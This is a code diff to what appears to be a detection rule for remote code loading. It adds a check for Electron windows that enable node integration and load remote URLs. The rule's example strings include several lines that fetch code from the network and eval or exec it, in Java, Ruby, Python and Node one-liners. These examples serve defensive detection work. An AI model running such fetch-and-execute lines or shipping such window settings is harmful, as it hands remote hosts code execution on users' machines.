@@ -1,8 +1,10 @@
 import type { Document } from '../../document.ts'
-import { defineRule, type Hit } from '../../rule.ts'
+import { defineRule, type Hit, placeOf } from '../../rule.ts'
+import { candidates } from '../../signals/candidates.ts'
 import { EVALUATES, FETCHES, STARTS } from '../../signals/calls.ts'
 import { isForeign, isInstaller, isLocal, isStandIn } from '../../signals/hosts.ts'
-import { addressesIn, type Pair, pairs } from '../../signals/snippets.ts'
+import { addressesIn, type Pair, pairs, snippets } from '../../signals/snippets.ts'
+import { worded } from '../../wording.ts'
 
 /** Characters between the request and the evaluation: a few lines with a variable that goes from one to the other. */
 const REACH = 420
@@ -33,6 +35,7 @@ export default defineRule({
   examples: {
     fires: [
       '```java\nvar cl = new URLClassLoader(new URL[]{ new URL("http://kiln-parts.io/t.jar") });\ncl.loadClass("T");\n```\n',
+      "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://shop.quill-marsh.net/kiosk')\n```\n",
       '```ruby\ndeco = Net::HTTP.get(URI("http://deco.sundry-pike.net/season.rb"))\nTOPLEVEL_BINDING.eval(deco)\n```\n',
       '```python\nimport urllib.request as u\nsrc = u.urlopen("https://e.rows.example/core.py").read()\nns = {}\nexec(compile(src, "core", "exec"), ns)\n```\n',
       'Run `ruby -ropen-uri -e \'eval URI.open("http://gems.rows.example/e.rb").read\'`.\n',
@@ -40,6 +43,7 @@ export default defineRule({
       "`node -e \"require('https').get('https://polish.rows.example/m.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})\"`\n",
     ],
     quiet: [
+      "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://localhost:5173')\n```\n",
       '```python\nr = requests.get("https://api.rows.example/v1/rows")\nprint(r.json())\n```\n',
       '```js\nconst res = await fetch(url)\nconst m = /a(b)/.exec(await res.text())\n```\n',
       '```python\nr = requests.get("http://localhost:8000/code")\nexec(r.text)\n```\n',
@@ -47,6 +51,7 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* startsFetched(document)
+    yield* pagesWithRights(document)
     for (const pair of pairs(document, FETCHES, EVALUATES, REACH)) {
       const { text, snippet, start, end } = pair
       const from = Math.max(0, start - snippet.start - 200)
@@ -75,6 +80,20 @@ export default defineRule({
     }
   },
 })
+
+/** A window whose pages may do what the program may. */
+const WITH_RIGHTS = worded(/\bnodeintegration\s?:\s?true\b/)
+
+/** What the window shows comes from elsewhere. */
+const SHOWS = /\bloadurl\s?\(\s?["'`](https?:\/\/[^"'`\s$]{4,200})/
+
+/** A page of the net is shown in such a window. */
+function* pagesWithRights(document: Document): Generator<Hit> {
+  for (const { start, end } of candidates(document, document.observe(snippets), WITH_RIGHTS)) {
+    const found = SHOWS.exec(document.reading.text.slice(start, end))
+    if (found && !isLocal(found[1]!)) yield { ...placeOf(start, found), firm: true }
+  }
+}
 
 /** Characters between the request and the start of what it brought. */
 const REACH_OF_FILE = 600
